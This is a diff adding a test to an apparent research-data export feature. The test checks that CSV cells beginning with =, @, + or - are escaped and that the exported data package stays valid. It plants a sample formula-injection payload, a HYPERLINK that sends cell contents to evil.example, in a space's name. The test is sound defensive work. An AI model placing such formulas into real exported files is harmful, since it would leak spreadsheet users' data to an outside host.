@@ -136,3 +136,24 @@ def test_a_programme_without_spaces_exports_an_empty_package(app, tmp_path):
     archive = package(app)
     assert set(archive.namelist()) == FILES
     assert table(archive, "space_metrics.csv") == []
+
+
+def test_text_a_spreadsheet_would_run_is_escaped_and_the_package_stays_valid(app, dst_week,
+                                                                          tmp_path):
+    app.config["RESEARCH_MIN_CELL"] = 1
+    space, town = dst_week.space, dst_week.space.town
+    space.name = '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")'
+    town.name, town.town_type, town.location_type = "@Mölln", "+1", "-peripher"
+    town.population = 18000
+    db.session.commit()
+    archive = package(app)
+    (row,) = table(archive, "spaces.csv")
+    assert row["name"] == "'" + space.name
+    assert (row["town"], row["town_type"], row["location_type"]) == \
+        ("'@Mölln", "'+1", "'-peripher")
+    assert (row["population"], row["desks"]) == ("18000", "2")  # numbers stay numbers
+    assert "'=HYPERLINK" in archive.read("spaces.csv").decode()
+    assert "Text cells that begin with an equals" in archive.read("codebook.md").decode()
+    archive.extractall(tmp_path / "package")
+    report = validate(str(tmp_path / "package" / "datapackage.json"))
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
